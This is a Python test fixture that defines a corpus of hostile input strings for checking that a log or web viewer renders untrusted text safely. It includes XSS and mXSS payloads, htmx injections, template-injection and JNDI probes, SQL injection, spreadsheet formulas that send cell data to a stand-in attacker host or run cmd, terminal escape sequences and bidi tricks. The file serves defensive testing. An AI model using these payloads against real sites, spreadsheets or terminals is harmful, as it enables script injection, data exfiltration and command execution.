"""Three hundred texts that are not what they seem, by what they are after. Where they could act, they set window.acted
or ask evil.example: whoever shows one of them as text sees neither."""

from collections.abc import Mapping, Sequence

ACT = "window.acted=1"
EVIL = "evil.example"

_TAGS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT>{ACT}</SCRIPT>",
    f"<script src=//{EVIL}/a.js></script>",
    f"<scr<script>ipt>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"<noscript><p title='</noscript><script>{ACT}</script>'>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script>",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<template><script>{ACT}</script></template>",
    f"<iframe src=//{EVIL}/></iframe>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<object data=//{EVIL}/a.swf></object>",
    f"<embed src=//{EVIL}/a.swf>",
    f"<link rel=stylesheet href=//{EVIL}/a.css>",
    f"<link rel=prefetch href=//{EVIL}/>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<meta http-equiv=Content-Security-Policy content='default-src {EVIL}'>",
    f"<style>@import url(//{EVIL}/a.css);</style>",
    f"<style>*{{background:url(//{EVIL}/)}}</style>",
    f"<form action=//{EVIL}/ id=filters><input name=q autofocus></form>",
    f"<button form=filters formaction=//{EVIL}/>Search</button>",
    f"<input type=image src=//{EVIL}/ formaction=//{EVIL}/>",
    f"<audio src=//{EVIL}/a.mp3 autoplay></audio>",
    f"<video poster=//{EVIL}/a.png src=//{EVIL}/a.mp4></video>",
    f"<picture><source srcset=//{EVIL}/a.png><img></picture>",
    f"<img src=//{EVIL}/a.png>",
    f"<img srcset='//{EVIL}/a.png 1x'>",
    f"<table background=//{EVIL}/a.png></table>",
    f"<body onload={ACT}>",
    "</td></tr></tbody></table><h1>outside</h1>",
    "</div></main></body></html><h1>outside</h1>",
    "</pre></details><h1>outside</h1>",
    "</bdi></a><h1>outside</h1>",
    "<plaintext>",
    "<xmp><h1>outside</h1></xmp>",
    "<!DOCTYPE html><html><body>login</body></html>",
    "<!-- never closed",
    "<?xml version='1.0'?><h1>outside</h1>",
    "<a name=location>x</a>",
    "<img name=getElementById>",
    "<p id=search></p><p id=rows></p><p id=results></p>",
    "<dialog open popover id=keys-help>x</dialog>",
    "&lt;script&gt;window.acted=1&lt;/script&gt;",
    "&#60;script&#62;window.acted=1&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "<b>bold</b>",
)
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus autofocus tabindex=0", "onmouseover", "onpointerenter", "onanimationstart",
    "ontoggle open", "onbeforetoggle", "onscroll", "oncontentvisibilityautostatechange style=content-visibility:auto",
    "onbeforeinput contenteditable",
)  # fmt: skip
_ATTRIBUTES = (
    *(f"<img src=x {name.replace(' ', f'={ACT} ', 1) if ' ' in name else f'{name}={ACT}'}>" for name in _HANDLERS),
    *(f"\" {name.split()[0]}=\"{ACT}\" x=\"" for name in _HANDLERS),
    f"' onclick='{ACT}' x='",
    f"` onclick=`{ACT}` x=`",
    f"\" style=\"background:url(//{EVIL}/)\"",
    "\" hidden class=\"",
    "\"><h1>outside</h1>",
    "'><h1>outside</h1>",
)  # fmt: skip
_SVG = (
    f"<svg onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script href=//{EVIL}/a.js /></svg>",
    f"<svg><a xlink:href='javascript:{ACT}'><text y=20>x</text></a></svg>",
    f"<svg><image href=//{EVIL}/a.png /></svg>",
    f"<svg><use href='//{EVIL}/a.svg#x' /></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={ACT}>",
    f"<svg><foreignObject><script>{ACT}</script></foreignObject></svg>",
    f"<svg><style>@import '//{EVIL}/a.css'</style></svg>",
    f"<math><a xlink:href='javascript:{ACT}'>x</a></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}></style></mglyph></table></mtext></math>",
    "</svg></figure><h1>outside</h1>",
)
_ADDRESSES = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"java\nscript:{ACT}",
    f" javascript:{ACT}",
    f"javascript&colon;{ACT}",
    f"javascript://%0a{ACT}",
    f"vbscript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYWN0ZWQ9MTwvc2NyaXB0Pg==",
    f"//{EVIL}/",
    f"\\\\{EVIL}\\share",
    f"/\\{EVIL}",
    f"https:{EVIL}",
    f"http://{EVIL}/?q=<b>",
    f"http://localhost.{EVIL}/",
    f"https://{EVIL}/%0d%0aSet-Cookie:a=1",
    f"<a href='javascript:{ACT}'>x</a>",
    f"<a href=//{EVIL}/ ping=//{EVIL}/>x</a>",
    f"[x](javascript:{ACT})",
    f"![x](http://{EVIL}/a.png)",
    f"<http://{EVIL}/>",
    "../../accounts/logout/",
    "..%2f..%2faccounts%2flogout%2f",
    "%2e%2e/%2e%2e",
    "/./././",
    ".",
    "..",
    "?q=a&level=error#x",
    "a/b?c#d;e=f&g",
)
_HTMX = (
    "<div hx-get='/preferences' hx-trigger='load' hx-swap='outerHTML'>x</div>",
    "<div data-hx-get='/preferences' data-hx-trigger='load'>x</div>",
    "<div hx-post='/accounts/logout/' hx-trigger='load'>x</div>",
    "<div hx-delete='/views/1' hx-trigger='revealed'>x</div>",
    f"<div hx-get='//{EVIL}/' hx-trigger='load'>x</div>",
    f"<div hx-get='/' hx-trigger='load' hx-headers='js:{{a: {ACT}}}'>x</div>",
    f"<div hx-get='/' hx-trigger='load[{ACT}]'>x</div>",
    f"<div hx-vals='js:{{a: {ACT}}}' hx-get='/' hx-trigger='load'>x</div>",
    f"<div hx-on:click='{ACT}' hx-on::load='{ACT}'>x</div>",
    f"<div data-hx-on--load='{ACT}'>x</div>",
    "<div hx-boost='true'><a href='/accounts/logout/'>x</a></div>",
    "<div hx-swap-oob='true' id='search'>x</div>",
    "<div hx-select-oob='#main' hx-get='/' hx-trigger='load'>x</div>",
    f"<div ws-connect='ws://{EVIL}/' sse-connect='//{EVIL}/'>x</div>",
    "<div hx-preserve id='results'>x</div>",
    "<div hx-ext='x' hx-history-elt>x</div>",
    "<script data-tail data-address='/preferences'></script>",
    "<button data-tail-switch data-copy-link='/accounts/logout/' class=copy>x</button>",
    "\" hx-get=\"/preferences\" hx-trigger=\"load\" x=\"",
    "<tr class='events__row'><td><a class='opener' hx-get='/preferences'>x</a></td></tr>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7|add:7 }}", "{% debug %}", "{% load static %}{{ settings.SECRET_KEY }}", "{{ request.user.password }}",
    "{# hidden #}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}", "@{7*7}",
    "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "%(asctime)s %s %n", "{0.__class__}", "{level}", "%s%s%s%s%n",
    "{{{{", "}}}}",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", f"\x1b]8;;http://{EVIL}\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1bPq\x1b\\", "\x9b31m", "\x07\x07\x07", "a\x08b", "over\rwritten",
    "line\r\nnext", "\x7f", "\x1b[?1049h", "\x0c\x0b", "\x1b[1;31m\x1b[5mblink", "\x1b]1337;File=:AA\x07", "\x05",
    "a\nb\nINFO forged line", "\x1c\x1d\x1e\x1f",
)  # fmt: skip
_DIRECTIONS = (
    "\u202egnp.exe\u202c", "\u202dleft\u202c", "\u2066isolated\u2069", "\u2067right\u2069", "\u2068first\u2069",
    "\u200fmark", "\u200emark", "\u061cmark", "never closed \u202e\u202e\u202e", "\u2069\u2069 closed too often",
    "שלום user=1", "مرحبا level=error", "a \u202e}\u2066if admin\u2069 \u2066", "user\u202e\u2066 // x\u2069 \u2066",
    "\u202ahidden\u202c",
)  # fmt: skip
_UNSEEN = (
    "ad\u200bmin", "\ufeffadmin", "ad\u00admin", "\u2060", "\u180e", "\u3164", "\u115f\u1160", "a\u2028b", "a\u2029b",
    "\u200c\u200d", "\U000e0041\U000e007f", "\ufff9a\ufffab\ufffb", "\u2061\u2062\u2063\u2064", "\u00a0\u2003\u3000",
    "\u206a\u206f", "a\u0301\u0301\u0301" * 40, "Z\u0335\u0334\u0337" * 30, "👩\u200d👩\u200d👧", "\ufffe\uffff",
    "\U0010ffff",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", f"=HYPERLINK(\"http://{EVIL}\";\"x\")", f"=IMPORTXML(\"http://{EVIL}\",\"//a\")",
    f"=WEBSERVICE(\"http://{EVIL}/\"&A1)", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "\"=1+1\"", "x;=1+1;y", "x,=1+1,y", "x\n=1+1", "x\t=1+1", "=1+1;", "-",
    "+", "=", "@", "-5", "-5e3", "+49 30 1234", "0x1F", "1e400", "=DDE(\"cmd\";\"/C calc\";\"a\")", "%0A=1+1",
    "# CUT SHORT after 0 events",
)  # fmt: skip
_PROTOTYPES = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__",
    "constructor.prototype", "__proto__.polluted", "length", "then", "toJSON", "[object Object]", "undefined", "NaN",
    "__class__", "__dict__",
)  # fmt: skip
_TEXTS = (
    "'; DROP TABLE log_event; --", "\" OR 1=1 --", "%' OR '1'='1", "\\'; SELECT pg_sleep(1); --", "$1 %s %(a)s",
    "}{", "{\"a\":1}", "[1,2", "null", "true", "\"", "\\", "\\\\", "\\u0041", "\\n", "\\x00", "", " ", "  two  ",
    "level:error OR", "-", "NOT", "(", ")", "*", "a:b:c", "field:", "\"never closed", "İI ı ß ﬁ", "ＡＢＣ",
    "𝒜𝒷𝒸", "😀" * 50,
)  # fmt: skip
_LONG = (
    "w" * 1_000_000, "<b>" * 80_000, "\u202e" * 3_000, "a " * 50_000, "&amp;" * 10_000, "\u0301" * 2_000, "=" * 5_000,
)  # fmt: skip

# In three parts, so that a page takes each at once.
CORPUS: Mapping[str, Sequence[str]] = {
    "what a browser would do": (*_TAGS, *_ATTRIBUTES, *_SVG),
    "what a page, a template or a terminal would do": (*_ADDRESSES, *_HTMX, *_TEMPLATES, *_TERMINAL, *_DIRECTIONS),
    "what cannot be seen, is calculated, or breaks a program": (*_UNSEEN, *_FORMULAS, *_PROTOTYPES, *_TEXTS, *_LONG),
}
